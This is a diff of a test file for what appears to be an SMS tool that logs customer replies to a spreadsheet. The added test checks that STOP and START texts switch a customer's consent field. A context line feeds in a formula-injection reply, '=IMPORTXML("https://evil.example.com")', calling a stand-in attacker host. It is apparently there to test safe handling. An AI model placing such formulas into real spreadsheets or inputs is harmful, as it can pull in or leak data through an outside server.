@@ -162,6 +162,18 @@ test('somebody who stopped and texts START gets the text after the owner says ye
   expect(timesSent(now)).toEqual(ALL);
 });
 
+test('a STOP stands in the list too, and START opens it again', () => {
+  const now = open();
+  const consent = () => lineOf(linesOf(now.host, 'Customers'), 'Cy Cole')['Text consent'];
+  now.network.reply(phoneOf(2), 'STOP');
+  now.host.call('tick');
+  expect(consent()).toBe('no');
+  pass(now.host, 60);
+  now.network.reply(phoneOf(2), 'START');
+  now.host.call('tick');
+  expect(consent()).toBe('yes');
+});
+
 test('an answer read twice is one line of the log, and one of evidence', () => {
   const now = open();
   now.network.reply(phoneOf(2), '=IMPORTXML("https://evil.example.com")');
